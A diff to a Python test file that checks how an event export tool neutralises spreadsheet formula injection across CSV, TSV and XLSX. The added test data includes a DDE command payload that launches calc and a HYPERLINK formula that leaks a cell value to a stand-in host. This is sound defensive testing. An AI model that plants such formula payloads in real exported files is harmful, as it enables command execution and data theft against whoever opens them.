@@ -153,11 +153,55 @@ def test_extra_columns_survive_every_format() -> None:
         assert read_events(write_events(events, fmt), f"e.{fmt}").events["colour"].tolist() == ["red"]
 
 
-@pytest.mark.parametrize("value", ["=1+1", "+33 1", "-5", "@SUM(A1)", "'=already", "plain"])
+@pytest.mark.parametrize("value", ["=1+1", "+33 1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "'=already", "plain", "\t=1"])
 def test_formulas_are_neutralised_in_csv_and_restored_on_reading(value: str) -> None:
     escaped = escape_formula(value)
-    assert not escaped.startswith(("=", "+", "-", "@"))
+    assert not escaped.startswith(("=", "+", "-", "@", "\t"))
     assert unescape_formula(escaped) == value
+
+
+@pytest.mark.parametrize("value", ["-5", "+44", "-33.9", "1e-3", "-.5"])
+def test_a_plain_number_is_no_formula_and_is_written_as_it_is(value: str) -> None:
+    assert escape_formula(value) == value
+
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A2,"x")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
+def test_a_column_name_that_is_a_formula_is_neutralised_like_a_cell(seed: Dataset, fmt: str) -> None:
+    events = seed.events.assign(**{HOSTILE: "=1+1"})
+    data = write_events(events, fmt)
+    if fmt == "xlsx":
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]  # nothing a spreadsheet would run
+        assert HOSTILE in [c.value for c in cells]
+    else:
+        header = data.decode().split("\n", 1)[0]
+        assert "'=HYPERLINK" in header
+        assert not any(cell.strip('"').startswith("=") for cell in header.split("\t" if fmt == "tsv" else ","))
+    back = read_events(data, f"e.{fmt}").events
+    assert back[HOSTILE].tolist() == ["=1+1"] * len(events)  # and it reads back exactly
+
+
+def test_apostrophes_in_a_file_the_tool_did_not_write_are_kept() -> None:
+    data = csv_bytes("a,2022,X,claim,'=not mine", "b,2023,X,claim,'-5", header=HEADER)
+    assert read_events(data, "e.csv").events["title"].tolist() == ["'=not mine", "'-5"]
+
+
+def test_apostrophes_the_tool_wrote_are_removed_on_reading(seed: Dataset) -> None:
+    events = seed.events.copy()
+    events.loc[0, "title"] = "=1+1"
+    events.loc[1, "title"] = "'=2"
+    for fmt in ("csv", "tsv", "timelinejs"):
+        data = write_events(events, fmt)
+        suffix = ".timelinejs.csv" if fmt == "timelinejs" else f".{fmt}"
+        back = read_events(data, "e" + suffix).events
+        assert back.loc[0, "title"] == "=1+1"
+        assert back.loc[1, "title"] == "'=2"
 
 
 def test_a_lone_carriage_return_is_quoted_so_it_cannot_end_a_row(seed: Dataset) -> None:
